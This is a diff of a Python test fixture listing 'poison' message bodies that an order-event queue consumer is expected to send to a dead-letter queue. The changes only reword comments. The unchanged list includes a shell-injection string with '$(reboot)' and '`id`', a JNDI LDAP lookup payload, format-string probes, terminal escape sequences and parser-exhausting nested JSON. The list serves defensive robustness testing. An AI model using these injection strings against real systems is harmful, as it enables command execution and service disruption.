@@ -1,4 +1,4 @@
-"""Bodies that can never be an event of an order: each must end as a dead letter, and stop nobody."""
+"""Bodies that can never be an event of an order: each must end as a dead letter, without stopping other messages."""
 
 import base64
 import gzip
@@ -26,7 +26,7 @@ def _nested(body: str, times: int) -> str:
 
 
 POISON: tuple[str, ...] = (
-    # No JSON.
+    # Not JSON.
     " ",
     "\t\r\n",
     "x",
@@ -58,7 +58,7 @@ POISON: tuple[str, ...] = (
     gzip.compress(_TEXT.encode(), mtime=0).hex(),
     "\ufffd" * 40,
     "\U0001f355" * 40,
-    # JSON, and no event.
+    # JSON, but no event.
     "null",
     "true",
     "42",
@@ -74,7 +74,7 @@ POISON: tuple[str, ...] = (
     '{"data": null}',
     '{"data": []}',
     '{"pedidoId": "7"}',
-    # Events that lack what they need, or hold what they cannot.
+    # Events without a required field, or with an invalid value.
     _event(),
     _event(id_pedido=None),
     _event(id_pedido=""),
@@ -86,7 +86,7 @@ POISON: tuple[str, ...] = (
     _event(id_pedido=7, produtos=[{"id": 1, "quantidade": -3}]),
     _event(id_pedido=7, produtos="muitos"),
     '{"event_type": "pedido_criado", "data": {"id_pedido": ' + "9" * 5000 + "}}",
-    # Envelopes that hold nothing, or never end.
+    # Envelopes that are empty, or nested without end.
     _sns(""),
     _sns("x"),
     _sns("null"),
@@ -96,7 +96,7 @@ POISON: tuple[str, ...] = (
     '{"data":' * 5_000 + "1" + "}" * 5_000,
     json.dumps(["software.amazon.payloadoffloading.PayloadS3Pointer", {"s3BucketName": "b", "s3Key": "k"}]),
     json.dumps({"event_type": "pedido_criado", "data": {"id_pedido": 7, "obs": "x" * 300_000}}),
-    # What a terminal, a log or a shell would trip over.
+    # Texts that attack a terminal, a log or a shell.
     "[31m\u202eorder\u202c",
     "$(reboot); `id`; ${jndi:ldap://example.invalid/a}",
     "%s%s%n{0.__class__}",
